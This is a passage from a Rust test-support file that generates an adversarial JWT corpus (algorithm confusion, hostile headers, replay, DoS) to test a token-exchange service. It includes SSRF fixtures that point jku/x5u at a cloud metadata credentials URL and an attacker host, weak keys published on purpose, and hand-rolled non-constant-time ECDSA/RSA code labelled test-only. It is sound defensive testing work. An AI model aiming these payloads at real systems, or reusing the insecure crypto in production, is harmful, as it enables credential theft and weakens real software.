//! An adversarial corpus of subject tokens, generated deterministically from a seed.
//!
//! [`generate`] returns one or more [`AttackCase`]s per attack listed in
//! `docs/attack-corpus.md`: a token and the verdict Legate must reach — accept, or reject
//! with the exact audit `reason`. The corpus is fed through a *running* Legate by
//! `tests/it/attacks.rs`; that Legate is configured with [`trusts`] (three issuers, each
//! with a static JWKS), the Cedar policy [`POLICY`], the target [`TARGET`], and a clock
//! reading [`CorpusContext::now`].
//!
//! A case whose name contains `/` is one step of a sequence (replay attacks): the cases
//! sharing the [`AttackCase::group`] must be presented in corpus order to the same Legate.
//!
//! Determinism: the same seed and context give byte-identical tokens; a different seed
//! changes every `jti` and every attacker-chosen value (attacker keys, injected bytes).
//! Issuer keys do not depend on the seed, so one running Legate serves every seed.
//! Keys are fixed (EC and Ed25519 keys derived from labels; RSA keys embedded below, made
//! with `openssl genpkey`), and every signature is a pure function of key and message.
//! aws-lc-rs draws ECDSA nonces and RSA-PSS salts internally (its RNG parameter is ignored)
//! and refuses RSA keys under 2048 bits, so ECDSA (P-256, P-384, secp256k1) and RSA
//! (PKCS#1 v1.5, PSS, 1024-bit) are signed here by a small, slow, non-constant-time
//! implementation whose nonce and salt are derived by HMAC from key and message (in the
//! spirit of RFC 6979). The unit tests check every one of those signatures with
//! aws-lc-rs verification (and RS256 byte-for-byte against aws-lc-rs signing). Ed25519 and
//! HMAC are aws-lc-rs (both deterministic). NEVER use any of this outside tests.

#![allow(
    clippy::expect_used,
    clippy::panic,
    clippy::unwrap_used,
    clippy::indexing_slicing,
    clippy::needless_range_loop,
    reason = "test support code: a failure here is a broken test, not a runtime path; \
              big-number limb loops read clearer with indices"
)]

use std::sync::OnceLock;

use aws_lc_rs::signature::{Ed25519KeyPair, KeyPair as _};
use aws_lc_rs::{digest, hmac};
use base64::Engine as _;
use base64::engine::general_purpose::STANDARD;
use serde_json::{Value, json};

use legate_core::b64;
use legate_core::jws::{Alg, MAX_TOKEN_BYTES};
use legate_core::verify::VerifyRules;

// ---- what the running Legate must be configured with ---------------------------------

/// Trust name of issuer A: single-use, every algorithm, the main issuer of the corpus.
pub const TRUST_A: &str = "issuer-a";
/// Issuer URL (`iss`) of trust A.
pub const ISSUER_A: &str = "https://issuer-a.corpus.legate.test";
/// Trust name of issuer B: single-use, ES256 only; publishes a `kid` that A also uses.
pub const TRUST_B: &str = "issuer-b";
/// Issuer URL of trust B.
pub const ISSUER_B: &str = "https://issuer-b.corpus.legate.test";
/// Trust name of issuer R: replay protection off (`replay = "reusable"`).
pub const TRUST_R: &str = "issuer-r";
/// Issuer URL of trust R.
pub const ISSUER_R: &str = "https://issuer-r.corpus.legate.test";
/// The `aud` every trust accepts.
pub const AUDIENCE: &str = "legate";
/// The leeway every trust is configured with, seconds.
pub const LEEWAY_SECS: i64 = 60;
/// The lifetime cap every trust is configured with, seconds.
pub const MAX_LIFETIME_SECS: i64 = 3600;
/// The target every case asks for (`audience` of the exchange request).
pub const TARGET: &str = "deploy-api";
/// The target's audience (`aud` of the tokens Legate mints).
pub const TARGET_AUDIENCE: &str = "https://deploy.example.com";
/// The target's labels, as `(name, value)`.
pub const TARGET_LABELS: [(&str, &str); 1] = [("env", "prod")];
/// The default clock of the corpus (2027-01-15T08:00:00Z).
pub const NOW: i64 = 1_800_000_000;
/// The cloud metadata address used by the `jku`/`x5u` SSRF cases.
pub const METADATA_URL: &str =
    "http://169.254.169.254/latest/meta-data/iam/security-credentials/legate";
/// The `kid` that only exists "after a rotation" (published in A's static key set).
pub const ROTATED_KID: &str = "a-2027-rotation";
/// The upstream subject of the corpus workload.
pub const SUBJECT: &str = "repo:acme/app:ref:refs/heads/main";

/// The Cedar policy the corpus verdicts assume (with the bundled schema).
///
/// Issuer A's and issuer R's repository 42, and issuer B's repository 7, may reach
/// [`TARGET`]; production targets are reached from `refs/heads/main` only.
pub const POLICY: &str = r#"// The attack corpus policy (crates/legate-testkit/src/corpus.rs).

@id("issuer-a-repo-42")
permit (
  principal in Legate::Issuer::"issuer-a",
  action == Legate::Action::"exchange",
  resource == Legate::Target::"deploy-api"
)
when { principal.claims has repository_id && principal.claims.repository_id == "42" };

@id("issuer-b-repo-7")
permit (
  principal in Legate::Issuer::"issuer-b",
  action == Legate::Action::"exchange",
  resource == Legate::Target::"deploy-api"
)
when { principal.claims has repository_id && principal.claims.repository_id == "7" };

@id("issuer-r-repo-42")
permit (
  principal in Legate::Issuer::"issuer-r",
  action == Legate::Action::"exchange",
  resource == Legate::Target::"deploy-api"
)
when { principal.claims has repository_id && principal.claims.repository_id == "42" };

@id("prod-from-main-only")
forbid (principal, action, resource)
when {
  resource.hasTag("env") && resource.getTag("env") == "prod" &&
  !(principal.claims has ref && principal.claims.ref == "refs/heads/main")
};
"#;

/// Audit reason codes the corpus expects (the unit tests tie each to its error type).
pub mod reason {
    /// `ParseError::TooLarge`.
    pub const TOKEN_TOO_LARGE: &str = "token_too_large";
    /// `ParseError::NotCompactJws`.
    pub const NOT_COMPACT_JWS: &str = "not_compact_jws";
    /// `ParseError::Encoding`.
    pub const BAD_ENCODING: &str = "bad_encoding";
    /// `ParseError::Json`.
    pub const BAD_JSON: &str = "bad_json";
    /// `ParseError::MissingAlg`.
    pub const MISSING_ALG: &str = "missing_alg";
    /// `ParseError::UnsupportedAlg`.
    pub const UNSUPPORTED_ALG: &str = "unsupported_alg";
    /// `ParseError::MissingKid`.
    pub const MISSING_KID: &str = "missing_kid";
    /// `ParseError::ForbiddenHeader`.
    pub const FORBIDDEN_HEADER: &str = "forbidden_header";
    /// `ParseError::UnexpectedType`.
    pub const UNEXPECTED_TYP: &str = "unexpected_typ";
    /// `ParseError::MissingIssuer`.
    pub const MISSING_ISS: &str = "missing_iss";
    /// `VerifyError::AlgNotAllowed`.
    pub const ALG_NOT_ALLOWED: &str = "alg_not_allowed";
    /// `VerifyError::UnknownKid`.
    pub const UNKNOWN_KID: &str = "unknown_kid";
    /// `VerifyError::AmbiguousKid`.
    pub const AMBIGUOUS_KID: &str = "ambiguous_kid";
    /// `VerifyError::AlgKeyMismatch`.
    pub const ALG_KEY_MISMATCH: &str = "alg_key_mismatch";
    /// `VerifyError::BadSignature`.
    pub const BAD_SIGNATURE: &str = "bad_signature";
    /// `VerifyError::AudienceMismatch`.
    pub const AUDIENCE_MISMATCH: &str = "audience_mismatch";
    /// `VerifyError::InvalidClaim`.
    pub const INVALID_CLAIM: &str = "invalid_claim";
    /// `VerifyError::MissingClaim`.
    pub const MISSING_CLAIM: &str = "missing_claim";
    /// `VerifyError::Expired`.
    pub const EXPIRED: &str = "expired";
    /// `VerifyError::NotYetValid`.
    pub const NOT_YET_VALID: &str = "not_yet_valid";
    /// `VerifyError::IssuedInFuture`.
    pub const ISSUED_IN_FUTURE: &str = "issued_in_future";
    /// `VerifyError::ExpiresBeforeIssued`.
    pub const EXP_BEFORE_IAT: &str = "exp_before_iat";
    /// `VerifyError::LifetimeTooLong`.
    pub const LIFETIME_TOO_LONG: &str = "lifetime_too_long";
    /// `TrustError::UntrustedIssuer` (legate-trust): `iss` is no configured issuer.
    pub const UNTRUSTED_ISSUER: &str = "untrusted_issuer";
    /// The server's replay check: this (`iss`, `jti`) was already exchanged.
    pub const REPLAYED: &str = "replayed";
    /// Policy: no permit applies (legate-policy `DecisionReason::NoPermit`).
    pub const NO_PERMIT: &str = "no_permit";
    /// Policy: a forbid applies (legate-policy `DecisionReason::ForbiddenByPolicy`).
    pub const FORBIDDEN: &str = "forbidden";
    /// Policy: the claims cannot be mapped onto Cedar (nested deeper than legate-policy's
    /// `MAX_CLAIM_DEPTH`); a deny (`DecisionReason::RequestBuildFailed`).
    pub const REQUEST_BUILD_FAILED: &str = "request_build_failed";
    /// The HTTP request itself was refused (here: a body over the server's 64 KiB limit),
    /// before any token parsing. Its wire description is not the generic rejection.
    pub const BAD_REQUEST: &str = "bad_request";
}

/// What the generator needs to know about the Legate under test.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct CorpusContext {
    /// Legate's clock, unix seconds; token times are relative to it.
    pub now: i64,
    /// Base URL of the "attacker host" named by `jku`/`x5u` (a listener the harness
    /// watches for connections), e.g. `http://127.0.0.1:40123`.
    pub attacker_url: String,
    /// A cloud metadata URL, also named by `jku`/`x5u`.
    pub metadata_url: String,
}

impl CorpusContext {
    /// The default clock ([`NOW`]) and metadata URL, with the harness's attacker host.
    pub fn new(attacker_url: impl Into<String>) -> Self {
        Self {
            now: NOW,
            attacker_url: attacker_url.into(),
            metadata_url: METADATA_URL.to_owned(),
        }
    }
}

/// The family of an attack (the sections of `docs/attack-corpus.md`).
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord)]
pub enum AttackClass {
    /// Algorithm confusion, forged or damaged signatures, weak keys.
    Algorithm,
    /// Hostile JOSE header parameters.
    Header,
    /// Issuer, audience, time and identity claims.
    Claims,
    /// Non-canonical base64url, JSON and serialisation tricks.
    Encoding,
    /// Inputs meant to make verification expensive.
    DenialOfService,
    /// Presenting a used token again, as is or re-encoded.
    Replay,
    /// Legitimate tokens that must be accepted.
    MustAccept,
}

impl AttackClass {
    /// A short lowercase name.
    pub const fn as_str(self) -> &'static str {
        match self {
            AttackClass::Algorithm => "algorithm",
            AttackClass::Header => "header",
            AttackClass::Claims => "claims",
            AttackClass::Encoding => "encoding",
            AttackClass::DenialOfService => "denial_of_service",
            AttackClass::Replay => "replay",
            AttackClass::MustAccept => "must_accept",
        }
    }
}

/// The verdict Legate must reach.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum Expect {
    /// HTTP 200 and a minted token; audit reason `permitted`.
    Accept,
    /// Refused; the audit event of the request carries `reason`.
    Reject {
        /// The audit reason code (see [`reason`]).
        reason: &'static str,
    },
}

/// One token of the corpus and its expected verdict.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct AttackCase {
    /// Unique, `snake_case`; `group/step` for one step of a sequence.
    pub name: String,
    /// The family.
    pub class: AttackClass,
    /// The subject token, exactly as presented (may contain whitespace or be huge).
    pub token: String,
    /// The verdict.
    pub expect: Expect,
}

impl AttackCase {
    /// The case name without its step: the unit a test runs.
    pub fn group(&self) -> &str {
        self.name.split('/').next().unwrap_or(&self.name)
    }

    /// The step name, for a step of a sequence.
    pub fn step(&self) -> Option<&str> {
        self.name.split_once('/').map(|(_, s)| s)
    }
}

/// One trusted issuer of the corpus: what the Legate under test must trust.
#[derive(Debug, Clone)]
pub struct CorpusTrust {
    /// Trust name.
    pub name: &'static str,
    /// Exact issuer URL.
    pub issuer: &'static str,
    /// The JWKS document to serve as this trust's static `jwks_file`.
    pub jwks: Value,
    /// `replay = "single-use"` (true) or `"reusable"` (false).
    pub single_use: bool,
    /// `algorithms`, when restricted.
    pub algorithms: Option<Vec<Alg>>,
}

impl CorpusTrust {
    /// The verification rules Legate derives from this trust.
    pub fn rules(&self) -> VerifyRules {
        let mut rules = VerifyRules::new(self.issuer, vec![AUDIENCE.to_owned()]);
        rules.leeway_secs = LEEWAY_SECS.unsigned_abs();
        rules.max_lifetime_secs = MAX_LIFETIME_SECS.unsigned_abs();
        rules.require_jti = self.single_use;
        if let Some(algs) = &self.algorithms {
            rules.algorithms.clone_from(algs);
        }
        rules
    }
}

/// The three trusts of the corpus and the key sets they publish.
///
/// Issuer A's set deliberately holds keys Legate must never use: an `oct` key, a 1024-bit
/// RSA key, an RSA key with `e = 1`, a secp256k1 key, and two different keys under one
/// `kid`. Issuers A and B both publish `kid` `shared-kid`, with different keys.
pub fn trusts() -> Vec<CorpusTrust> {
    let k = keys();
    let mut e1 = k.rsa.jwk("rsa-e1", "RS256");
    e1["e"] = json!("AQ");
    vec![
        CorpusTrust {
            name: TRUST_A,
            issuer: ISSUER_A,
            single_use: true,
            algorithms: None,
            jwks: json!({"keys": [
                k.rsa.jwk("rs256", "RS256"),
                k.rsa.jwk("ps256", "PS256"),
                k.es256.jwk("es256", "ES256"),
                k.es384.jwk("es384", "ES384"),
                ed_jwk(&k.eddsa, "eddsa"),
                k.a_shared.jwk("shared-kid", "ES256"),
                k.a_rotated.jwk(ROTATED_KID, "ES256"),
                {"kty": "oct", "kid": "hmac", "alg": "HS256", "use": "sig", "k": b64::encode(OCT_KEY)},
                k.rsa1024.jwk("rsa-1024", "RS256"),
                e1,
                k.k256.jwk("es256k", "ES256K"),
                k.dup1.jwk("dup", "ES256"),
                k.dup2.jwk("dup", "ES256"),
            ]}),
        },
        CorpusTrust {
            name: TRUST_B,
            issuer: ISSUER_B,
            single_use: true,
            algorithms: Some(vec![Alg::Es256]),
            jwks: json!({"keys": [
                k.b_shared.jwk("shared-kid", "ES256"),
                ed_jwk(&k.b_eddsa, "eddsa-b"),
            ]}),
        },
        CorpusTrust {
            name: TRUST_R,
            issuer: ISSUER_R,
            single_use: false,
            algorithms: None,
            jwks: json!({"keys": [k.r_es256.jwk("es256-r", "ES256")]}),
        },
    ]
}

/// A fresh legitimate token of issuer A (ES256), accepted once; for harness steps that
/// need a valid token outside the corpus (e.g. to obtain a Legate-minted token).
pub fn legit_token(seed: u64, ctx: &CorpusContext) -> String {
    let g = Gen::new(seed, ctx);
    g.es256(&g.a("legit_token"))
}

/// Generates the corpus for `seed`.
pub fn generate(seed: u64, ctx: &CorpusContext) -> Vec<AttackCase> {
    let mut g = Gen::new(seed, ctx);
    algorithm_cases(&mut g);
    header_cases(&mut g);
    claims_cases(&mut g);
    encoding_cases(&mut g);
    dos_cases(&mut g);
    replay_cases(&mut g);
    accept_cases(&mut g);
    g.out
}

// ---- seeded randomness ---------------------------------------------------------------

/// SplitMix64 (Steele, Lea, Flood 2014): tiny, fast, good enough for test data.
#[derive(Debug, Clone)]
struct SplitMix64(u64);

impl SplitMix64 {
    fn new(seed: u64, label: &str) -> Self {
        // FNV-1a of the label, so each case draws from its own stream.
        let mut h: u64 = 0xcbf2_9ce4_8422_2325;
        for b in label.bytes() {
            h ^= u64::from(b);
            h = h.wrapping_mul(0x0100_0000_01b3);
        }
        Self(seed ^ h)
    }

    fn next_u64(&mut self) -> u64 {
        self.0 = self.0.wrapping_add(0x9e37_79b9_7f4a_7c15);
        let mut z = self.0;
        z = (z ^ (z >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
        z = (z ^ (z >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
        z ^ (z >> 31)
    }

    fn bytes(&mut self, n: usize) -> Vec<u8> {
        let mut out = Vec::with_capacity(n + 8);
        while out.len() < n {
            out.extend_from_slice(&self.next_u64().to_le_bytes());
        }
        out.truncate(n);
        out
    }

    fn id(&mut self) -> String {
        b64::encode(self.bytes(16))
    }
}

// ---- big numbers ---------------------------------------------------------------------

mod num {
    //! Just enough unsigned big-integer arithmetic for test signatures: little-endian
    //! `u64` limbs and Montgomery multiplication (CIOS) modulo an odd modulus.
    //! Not constant-time; test keys only.

    pub(super) type Limbs = Vec<u64>;

    pub(super) fn from_be(bytes: &[u8], limbs: usize) -> Limbs {
        let mut out = vec![0u64; limbs];
        for (i, b) in bytes.iter().rev().enumerate() {
            if *b != 0 {
                out[i / 8] |= u64::from(*b) << (8 * (i % 8));
            }
        }
        out
    }

    pub(super) fn to_be(a: &[u64], len: usize) -> Vec<u8> {
        let mut out = vec![0u8; len];
        for (i, byte) in out.iter_mut().rev().enumerate() {
            if let Some(limb) = a.get(i / 8) {
                *byte = (limb >> (8 * (i % 8))) as u8;
            }
        }
        out
    }

    pub(super) fn is_zero(a: &[u64]) -> bool {
        a.iter().all(|l| *l == 0)
    }

    /// `a >= b` for equal lengths.
    pub(super) fn geq(a: &[u64], b: &[u64]) -> bool {
        for (x, y) in a.iter().rev().zip(b.iter().rev()) {
            if x != y {
                return x > y;
            }
        }
        true
    }

    /// `a -= b`, returning the borrow.
    pub(super) fn sub_assign(a: &mut [u64], b: &[u64]) -> bool {
        let mut borrow = false;
        for (x, y) in a.iter_mut().zip(b) {
            let (d1, b1) = x.overflowing_sub(*y);
            let (d2, b2) = d1.overflowing_sub(u64::from(borrow));
            *x = d2;
            borrow = b1 || b2;
        }
        borrow
    }

    /// `a += b`, returning the carry.
    pub(super) fn add_assign(a: &mut [u64], b: &[u64]) -> bool {
        let mut carry = false;
        for (x, y) in a.iter_mut().zip(b) {
            let (s1, c1) = x.overflowing_add(*y);
            let (s2, c2) = s1.overflowing_add(u64::from(carry));
            *x = s2;
            carry = c1 || c2;
        }
        carry
    }

    fn shl1(a: &mut [u64]) -> bool {
        let mut carry = 0;
        for x in a.iter_mut() {
            let top = *x >> 63;
            *x = (*x << 1) | carry;
            carry = top;
        }
        carry == 1
    }

    /// The full product of two numbers (schoolbook).
    pub(super) fn mul_full(a: &[u64], b: &[u64]) -> Limbs {
        let mut out = vec![0u64; a.len() + b.len()];
        for (i, x) in a.iter().enumerate() {
            let mut carry: u64 = 0;
            for (j, y) in b.iter().enumerate() {
                let s = u128::from(*x)
                    .wrapping_mul(u128::from(*y))
                    .wrapping_add(u128::from(out[i + j]))
                    .wrapping_add(u128::from(carry));
                out[i + j] = s as u64;
                carry = (s >> 64) as u64;
            }
            out[i + b.len()] = carry;
        }
        out
    }

    /// Arithmetic modulo an odd `n`.
    #[derive(Debug)]
    pub(super) struct Mont {
        pub(super) n: Limbs,
        n0: u64,
        r2: Limbs,
    }

    impl Mont {
        pub(super) fn new(n: Limbs) -> Self {
            assert!(n[0] & 1 == 1, "Montgomery arithmetic needs an odd modulus");
            // n0 = -n^-1 mod 2^64 by Newton's iteration (each step doubles the bits).
            let mut inv: u64 = 1;
            for _ in 0..6 {
                inv = inv.wrapping_mul(2u64.wrapping_sub(n[0].wrapping_mul(inv)));
            }
            let l = n.len();
            // R^2 mod n, R = 2^(64 l): double 1 modulo n, 128 l times.
            let mut x = vec![0u64; l];
            x[0] = 1;
            for _ in 0..128 * l {
                let carry = shl1(&mut x);
                if carry || geq(&x, &n) {
                    sub_assign(&mut x, &n);
                }
            }
            Self {
                n,
                n0: inv.wrapping_neg(),
                r2: x,
            }
        }

        pub(super) fn limbs(&self) -> usize {
            self.n.len()
        }

        pub(super) fn bits(&self) -> usize {
            let top = self.n.iter().rposition(|l| *l != 0).unwrap_or(0);
            top * 64 + 64 - self.n[top].leading_zeros() as usize
        }

        pub(super) fn one(&self) -> Limbs {
            let mut one = vec![0u64; self.limbs()];
            one[0] = 1;
            one
        }

        pub(super) fn reduce_once(&self, a: &mut Limbs) {
            if geq(a, &self.n) {
                sub_assign(a, &self.n);
            }
        }

        /// a * b * R^-1 mod n, for a, b < n.
        ///
        /// Wrapping operations: none can overflow (a limb product plus two limbs fits in
        /// 128 bits), and unchecked arithmetic keeps debug builds fast.
        pub(super) fn mont_mul(&self, a: &[u64], b: &[u64]) -> Limbs {
            let mac = |t: u64, x: u64, y: u64, c: u64| -> (u64, u64) {
                let s = u128::from(x)
                    .wrapping_mul(u128::from(y))
                    .wrapping_add(u128::from(t))
                    .wrapping_add(u128::from(c));
                (s as u64, (s >> 64) as u64)
            };
            let l = self.limbs();
            let mut t = vec![0u64; l + 2];
            for i in 0..l {
                let mut c: u64 = 0;
                for j in 0..l {
                    (t[j], c) = mac(t[j], a[j], b[i], c);
                }
                let (lo, hi) = mac(t[l], 0, 0, c);
                t[l] = lo;
                t[l + 1] = hi;
                let m = t[0].wrapping_mul(self.n0);
                let (_, mut c) = mac(t[0], m, self.n[0], 0);
                for j in 1..l {
                    (t[j - 1], c) = mac(t[j], m, self.n[j], c);
                }
                let (lo, hi) = mac(t[l], 0, 0, c);
                t[l - 1] = lo;
                t[l] = t[l + 1].wrapping_add(hi);
            }
            let mut r = t[..l].to_vec();
            if t[l] != 0 || geq(&r, &self.n) {
                sub_assign(&mut r, &self.n);
            }
            r
        }

        pub(super) fn to_mont(&self, a: &[u64]) -> Limbs {
            self.mont_mul(a, &self.r2)
        }

        pub(super) fn leave_mont(&self, a: &[u64]) -> Limbs {
            self.mont_mul(a, &self.one())
        }

        /// a * b mod n (plain representation).
        pub(super) fn mul(&self, a: &[u64], b: &[u64]) -> Limbs {
            self.to_mont(&self.mont_mul(a, b))
        }

        pub(super) fn add(&self, a: &[u64], b: &[u64]) -> Limbs {
            let mut r = a.to_vec();
            let carry = add_assign(&mut r, b);
            if carry || geq(&r, &self.n) {
                sub_assign(&mut r, &self.n);
            }
            r
        }

        pub(super) fn sub(&self, a: &[u64], b: &[u64]) -> Limbs {
            let mut r = a.to_vec();
            if sub_assign(&mut r, b) {
                add_assign(&mut r, &self.n);
            }
            r
        }

        /// base^exp mod n, exponent big-endian.
        pub(super) fn pow(&self, base: &[u64], exp: &[u8]) -> Limbs {
            let b = self.to_mont(base);
            let mut acc = self.to_mont(&self.one());
            for byte in exp {
                for i in (0..8).rev() {
                    acc = self.mont_mul(&acc, &acc);
                    if (byte >> i) & 1 == 1 {
                        acc = self.mont_mul(&acc, &b);
                    }
                }
            }
            self.leave_mont(&acc)
        }

        /// a^-1 mod n for a prime n (Fermat).
        pub(super) fn inv(&self, a: &[u64]) -> Limbs {
            let mut e = self.n.clone();
            let mut two = vec![0u64; self.limbs()];
            two[0] = 2;
            sub_assign(&mut e, &two);
            self.pow(a, &to_be(&e, 8 * self.limbs()))
        }
    }
}

use num::{Limbs, Mont};

// ---- elliptic curves and ECDSA -------------------------------------------------------

#[derive(Debug)]
struct Curve {
    /// JWK `crv`.
    crv: &'static str,
    /// Field element and scalar size, bytes.
    len: usize,
    p: Mont,
    n: Mont,
    /// `a` in Montgomery form modulo p.
    a: Limbs,
    gx: Limbs,
    gy: Limbs,
    table: OnceLock<Vec<Vec<Jacobian>>>,
}

fn hex(s: &str) -> Vec<u8> {
    (0..s.len())
        .step_by(2)
        .map(|i| u8::from_str_radix(&s[i..i + 2], 16).expect("hex"))
        .collect()
}

impl Curve {
    fn new(crv: &'static str, p: &str, a: &str, n: &str, gx: &str, gy: &str) -> Self {
        let len = p.len() / 2;
        let l = len.div_ceil(8);
        let p = Mont::new(num::from_be(&hex(p), l));
        let a = p.to_mont(&num::from_be(&hex(a), l));
        Self {
            crv,
            len,
            a,
            n: Mont::new(num::from_be(&hex(n), l)),
            gx: num::from_be(&hex(gx), l),
            gy: num::from_be(&hex(gy), l),
            p,
            table: OnceLock::new(),
        }
    }

    fn p256() -> &'static Curve {
        static C: OnceLock<Curve> = OnceLock::new();
        C.get_or_init(|| {
            Curve::new(
                "P-256",
                "ffffffff00000001000000000000000000000000ffffffffffffffffffffffff",
                "ffffffff00000001000000000000000000000000fffffffffffffffffffffffc",
                "ffffffff00000000ffffffffffffffffbce6faada7179e84f3b9cac2fc632551",
                "6b17d1f2e12c4247f8bce6e563a440f277037d812deb33a0f4a13945d898c296",
                "4fe342e2fe1a7f9b8ee7eb4a7c0f9e162bce33576b315ececbb6406837bf51f5",
            )
        })
    }

    fn p384() -> &'static Curve {
        static C: OnceLock<Curve> = OnceLock::new();
        C.get_or_init(|| {
            Curve::new(
                "P-384",
                "fffffffffffffffffffffffffffffffffffffffffffffffffffffffffffffffe\
                 ffffffff0000000000000000ffffffff",
                "fffffffffffffffffffffffffffffffffffffffffffffffffffffffffffffffe\
                 ffffffff0000000000000000fffffffc",
                "ffffffffffffffffffffffffffffffffffffffffffffffffc7634d81f4372ddf\
                 581a0db248b0a77aecec196accc52973",
                "aa87ca22be8b05378eb1c71ef320ad746e1d3b628ba79b9859f741e082542a38\
                 5502f25dbf55296c3a545e3872760ab7",
                "3617de4a96262c6f5d9e98bf9292dc29f8f41dbd289a147ce9da3113b5f0b8c0\
                 0a60b1ce1d7e819d7a431d7c90ea0e5f",
            )
        })
    }

    fn secp256k1() -> &'static Curve {
        static C: OnceLock<Curve> = OnceLock::new();
        C.get_or_init(|| {
            Curve::new(
                "secp256k1",
                "fffffffffffffffffffffffffffffffffffffffffffffffffffffffefffffc2f",
                "0000000000000000000000000000000000000000000000000000000000000000",
                "fffffffffffffffffffffffffffffffebaaedce6af48a03bbfd25e8cd0364141",
                "79be667ef9dcbbac55a06295ce870b07029bfcdb2dce28d959f2815b16f81798",
                "483ada7726a3c4655da4fbfc0e1108a8fd17b448a68554199c47d08ffb10d4b8",
            )
        })
    }

    /// Jacobian doubling (Montgomery form); `None` is the point at infinity.
    fn double(&self, pt: &Jacobian) -> Jacobian {
        let (x, y, z) = pt.as_ref()?;
        if num::is_zero(y) {
            return None;
        }
        let f = &self.p;
        let xx = f.mont_mul(x, x);
        let yy = f.mont_mul(y, y);
        let yyyy = f.mont_mul(&yy, &yy);
        let zz = f.mont_mul(z, z);
        let xyy = f.mont_mul(x, &yy);
        let xyy2 = f.add(&xyy, &xyy);
        let s = f.add(&xyy2, &xyy2);
        let m = f.add(
            &f.add(&f.add(&xx, &xx), &xx),
            &f.mont_mul(&self.a, &f.mont_mul(&zz, &zz)),
        );
        let x3 = f.sub(&f.mont_mul(&m, &m), &f.add(&s, &s));
        let y2 = f.add(&yyyy, &yyyy);
        let y4 = f.add(&y2, &y2);
        let y8 = f.add(&y4, &y4);
        let y3 = f.sub(&f.mont_mul(&m, &f.sub(&s, &x3)), &y8);
        let yz = f.mont_mul(y, z);
        Some((x3, y3, f.add(&yz, &yz)))
    }

    /// Jacobian addition (Montgomery form).
    fn add(&self, p1: &Jacobian, p2: &Jacobian) -> Jacobian {
        let Some((x1, y1, z1)) = p1 else {
            return p2.clone();
        };
        let Some((x2, y2, z2)) = p2 else {
            return p1.clone();
        };
        let f = &self.p;
        let z1z1 = f.mont_mul(z1, z1);
        let z2z2 = f.mont_mul(z2, z2);
        let u1 = f.mont_mul(x1, &z2z2);
        let u2 = f.mont_mul(x2, &z1z1);
        let s1 = f.mont_mul(y1, &f.mont_mul(z2, &z2z2));
        let s2 = f.mont_mul(y2, &f.mont_mul(z1, &z1z1));
        if u1 == u2 {
            return if s1 == s2 { self.double(p1) } else { None };
        }
        let h = f.sub(&u2, &u1);
        let r = f.sub(&s2, &s1);
        let hh = f.mont_mul(&h, &h);
        let hhh = f.mont_mul(&h, &hh);
        let u1hh = f.mont_mul(&u1, &hh);
        let x3 = f.sub(&f.sub(&f.mont_mul(&r, &r), &hhh), &f.add(&u1hh, &u1hh));
        let y3 = f.sub(&f.mont_mul(&r, &f.sub(&u1hh, &x3)), &f.mont_mul(&s1, &hhh));
        let z3 = f.mont_mul(&h, &f.mont_mul(z1, z2));
        Some((x3, y3, z3))
    }

    /// `table[j][v]` = v·16^j·G (Jacobian, Montgomery form), built once per curve.
    fn table(&self) -> &[Vec<Jacobian>] {
        self.table.get_or_init(|| {
            let f = &self.p;
            let mut base: Jacobian = Some((
                f.to_mont(&self.gx),
                f.to_mont(&self.gy),
                f.to_mont(&f.one()),
            ));
            let mut rows = Vec::new();
            for _ in 0..self.n.bits().div_ceil(4) {
                let mut row: Vec<Jacobian> = vec![None];
                for v in 1..16 {
                    row.push(self.add(&row[v - 1], &base));
                }
                base = self.double(&row[8]);
                rows.push(row);
            }
            rows
        })
    }

    /// k·G in affine coordinates (plain representation), by a fixed-base comb.
    fn mul_base(&self, k: &[u64]) -> (Limbs, Limbs) {
        let f = &self.p;
        let mut acc: Jacobian = None;
        for (j, row) in self.table().iter().enumerate() {
            let v = (k[j / 16] >> (4 * (j % 16))) & 0xf;
            if v != 0 {
                acc = self.add(&acc, &row[v as usize]);
            }
        }
        let (x, y, z) = acc.expect("k is not a multiple of the group order");
        let zi = f.inv(&f.leave_mont(&z));
        let zi2 = f.mul(&zi, &zi);
        let zi3 = f.mul(&zi2, &zi);
        (
            f.mul(&f.leave_mont(&x), &zi2),
            f.mul(&f.leave_mont(&y), &zi3),
        )
    }

    /// n - s, for a big-endian scalar `s` (the other valid ECDSA `s`).
    fn negate_scalar(&self, s: &[u8]) -> Vec<u8> {
        let l = self.n.limbs();
        let s = num::from_be(s, l);
        num::to_be(&self.n.sub(&vec![0u64; l], &s), self.len)
    }

    fn order(&self) -> Vec<u8> {
        num::to_be(&self.n.n, self.len)
    }
}

type Jacobian = Option<(Limbs, Limbs, Limbs)>;

/// An ECDSA key pair on one of the corpus curves.
#[derive(Debug)]
struct EcKey {
    curve: &'static Curve,
    d: Limbs,
    x: Vec<u8>,
    y: Vec<u8>,
}

impl EcKey {
    /// A key whose private scalar comes from `material` (reduced modulo n).
    fn from_material(curve: &'static Curve, material: &[u8]) -> Self {
        let l = curve.n.limbs();
        let mut d = num::from_be(&material[..curve.len], l);
        curve.n.reduce_once(&mut d);
        assert!(!num::is_zero(&d), "zero private key");
        let (x, y) = curve.mul_base(&d);
        Self {
            curve,
            x: num::to_be(&x, curve.len),
            y: num::to_be(&y, curve.len),
            d,
        }
    }

    fn from_label(curve: &'static Curve, label: &str) -> Self {
        Self::from_material(
            curve,
            digest::digest(&digest::SHA512, label.as_bytes()).as_ref(),
        )
    }

    fn point(&self) -> Vec<u8> {
        let mut p = vec![0x04];
        p.extend_from_slice(&self.x);
        p.extend_from_slice(&self.y);
        p
    }

    fn jwk(&self, kid: &str, alg: &str) -> Value {
        json!({"kty": "EC", "crv": self.curve.crv, "kid": kid, "alg": alg, "use": "sig",
               "x": b64::encode(&self.x), "y": b64::encode(&self.y)})
    }

    /// ECDSA over `hash` (truncated to the order's size), fixed-size `r || s`, low-S.
    /// The nonce is derived by HMAC-SHA-512 from the private key and the hash.
    fn sign_hash(&self, hash: &[u8]) -> Vec<u8> {
        let c = self.curve;
        let n = &c.n;
        let l = n.limbs();
        let mut z = num::from_be(&hash[..hash.len().min(c.len)], l);
        n.reduce_once(&mut z);
        let key = hmac::Key::new(hmac::HMAC_SHA512, &num::to_be(&self.d, c.len));
        let mut counter: u32 = 0;
        loop {
            counter += 1;
            let mut msg = hash.to_vec();
            msg.extend_from_slice(&counter.to_be_bytes());
